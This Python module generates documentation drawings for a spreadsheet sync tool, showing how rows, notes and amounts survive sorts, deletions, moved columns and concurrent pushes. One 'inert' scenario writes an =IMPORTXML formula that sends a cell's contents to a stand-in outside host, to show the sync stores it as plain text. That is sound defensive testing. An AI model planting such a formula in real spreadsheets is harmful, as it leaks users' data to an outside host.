"""The drawings of docs/promises.md: each sheet before and after is read from a workbook that a real push has made.

python -m tests.promises.drawings > docs/promises.md
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import requests

from sheets_schema.model import KEY, STAMP
from sync.core.journal import staff_cells
from sync.core.plan import Past
from sync.core.wanted import Wanted
from tests.support.drawn import CASES, want
from tests.support.small_workbook import SmallWorkbook

PAGE = Path(__file__).parents[2] / "docs" / "promises.md"
WORDS = Path(__file__).with_name("promises.md.txt")

SHEET = CASES.sheet_id
SHOWN = {"order": "Order", "note": "Note (yours)", "amount": "Amount", KEY: "key (hidden)", STAMP: "stamp (hidden)"}


def three(turn: int = 1, **amounts: int) -> list[Wanted]:
    """Three cases; `A=15` is what case A is worth now."""
    plain = {"A": 10, "B": 20, "C": 30} | amounts
    return [want(k, turn, order=f"#{n}", amount=Decimal(plain[k])) for n, k in enumerate("ABC", 1)]


def begun() -> SmallWorkbook:
    """Three rows, with a note of staff's on the second."""
    book = SmallWorkbook()
    book.push(three())
    type_in(book, "B", "note", "call her")
    return book


def type_in(book: SmallWorkbook, key: str, column: str, words: str) -> None:
    reading = book.workbook().read()
    row = reading.pictures[CASES.id].rows_of[key][0]
    start = {"sheetId": SHEET, "rowIndex": row, "columnIndex": reading.places[CASES.id][column]}
    cells = [{"values": [{"userEnteredValue": {"stringValue": words}}]}]
    book.staff({"updateCells": {"start": start, "rows": cells, "fields": "userEnteredValue"}})


def sheet(book: SmallWorkbook) -> str:
    """The tab as it stands, drawn: rows without any cell are left out, a stamp is shortened to its key and turn."""
    picture = book.picture()
    first = picture.header_row or 0
    rows = [list(SHOWN.values())]
    for i in range(first + 1, picture.height):
        cells = [picture.columns[c][i] if c in picture.columns else "" for c in SHOWN]
        if any(cell not in ("", None) for cell in cells):
            rows.append([_short(c, str(cell)) for c, cell in zip(SHOWN, cells, strict=True)])
    widths = [max(len(row[n]) for row in rows) for n in range(len(SHOWN))]
    lines = [" │ ".join(cell.ljust(width) for cell, width in zip(row, widths, strict=True)).rstrip() for row in rows]
    lines.insert(1, "─┼─".join("─" * width for width in widths))
    return "\n".join(lines)


def _short(column: str, text: str) -> str:
    if column != STAMP or "|" not in text:
        return text
    key, _, version = text.partition("|")
    return f"{key} at {version[11:16]}"


def before_the_write(book: SmallWorkbook, act: Callable[[], object]) -> Any:
    """A way in for the sync where `act` happens between its reading and its first write."""
    done: list[bool] = []

    def send(plain: Callable[..., requests.Response], request: requests.PreparedRequest, **kwargs: Any) -> Any:
        if not done and ":batchUpdate" in str(request.url).replace("values:batchUpdateByDataFilter", ":batchUpdate"):
            done.append(True)
            act()
        return plain(request, **kwargs)

    return book.workbook(send)


@dataclass(frozen=True)
class Drawing:
    """Sheets in their order, each under what happened before it."""

    steps: tuple[tuple[str, str], ...]

    def __str__(self) -> str:
        return "\n\n".join(f"{words}\n\n```\n{drawn}\n```" for words, drawn in self.steps)


SORT = {
    "sortRange": {
        "range": {"sheetId": SHEET, "startRowIndex": 2, "endRowIndex": 30},
        "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}],
    }
}


def sorted_meanwhile() -> Drawing:
    book = begun()
    before = sheet(book)
    seen: list[str] = []

    def act() -> None:
        book.staff(SORT)
        seen.append(sheet(book))

    book.push(three(2, A=15), workbook=before_the_write(book, act))
    return Drawing(
        (
            ("Before. The sync has read this, and knows that A is worth 15 now.", before),
            ("Before it writes, somebody sorts the tab the other way round.", seen[0]),
            ("After the push: 15 stands beside A, and the note beside B.", sheet(book)),
        )
    )


def a_row_comes_back() -> Drawing:
    book = begun()
    kept = {key: cells for (key, copy), cells in staff_cells(book.picture()).items() if not copy}
    row = book.picture().rows_of["B"][0]
    where = {"sheetId": SHEET, "dimension": "ROWS", "startIndex": row, "endIndex": row + 1}
    before = sheet(book)
    book.staff({"deleteDimension": {"range": where}})
    deleted = sheet(book)
    book.push(three(), Past(typed=kept))
    return Drawing(
        (
            ("Before.", before),
            ("Somebody deletes the row of B.", deleted),
            ("After the push: the row is back, with the note that the journal had kept.", sheet(book)),
        )
    )


def new_ones_once() -> Drawing:
    """Two pushes that read the same sheet both want to add D."""
    book = begun()
    before = sheet(book)
    wanted = [want("D", 2, order="#4", amount=Decimal(40)), *three()]
    book.push(wanted, workbook=before_the_write(book, lambda: book.push(wanted)))
    return Drawing(
        (
            ("Before. Two syncs have read this at the same time, and both know of a new case, D.", before),
            ("After both: the second found its number taken, read again, and saw that D was there.", sheet(book)),
        )
    )


def words_put_back() -> Drawing:
    book = begun()
    type_in(book, "C", "amount", "about 25?")
    before = sheet(book)
    book.push(three())
    return Drawing(
        (
            ("Somebody typed over an amount, which the sheet fills.", before),
            ("After the push: the amount is back. The words are kept in the Sync log.", sheet(book)),
        )
    )


def inert() -> Drawing:
    book = begun()
    book.push([want("A", 2, order='=IMPORTXML("https://x.test/?"&B3)', amount=Decimal(10)), *three()[1:]])
    words = "A customer calls an order `=IMPORTXML(…)`. It stands there as text; nothing runs."
    return Drawing(((words, sheet(book)),))


def moved_columns() -> Drawing:
    book = begun()
    before = sheet(book)
    place = book.workbook().read().places[CASES.id]["amount"]
    source = {"sheetId": SHEET, "dimension": "COLUMNS", "startIndex": place, "endIndex": place + 1}
    title = {"updateSheetProperties": {"properties": {"sheetId": SHEET, "title": "Our cases!"}, "fields": "title"}}
    book.staff({"moveDimension": {"source": source, "destinationIndex": 0}}, title)
    book.push(three(2, B=99))
    words = (
        "Somebody moves Amount to the far left and renames the tab, and B comes to be worth 99. After the push each "
        "value is where it belongs (the columns are drawn in their old order):"
    )
    return Drawing((("Before.", before), (words, sheet(book))))


DRAWINGS: dict[str, Callable[[], Drawing]] = {
    "sorted meanwhile": sorted_meanwhile,
    "a row comes back": a_row_comes_back,
    "moved columns": moved_columns,
    "new ones once": new_ones_once,
    "words put back": words_put_back,
    "inert": inert,
}


def page() -> str:
    """The page, with `{{name}}` of its text replaced by the drawing of that name."""
    text = WORDS.read_text(encoding="utf-8")
    for name, draw in DRAWINGS.items():
        place = "{{" + name + "}}"
        if place not in text:
            raise ValueError(f"{WORDS.name} has no place for the drawing {name!r}")
        text = text.replace(place, str(draw()))
    return text


if __name__ == "__main__":
    sys.stdout.write(page())
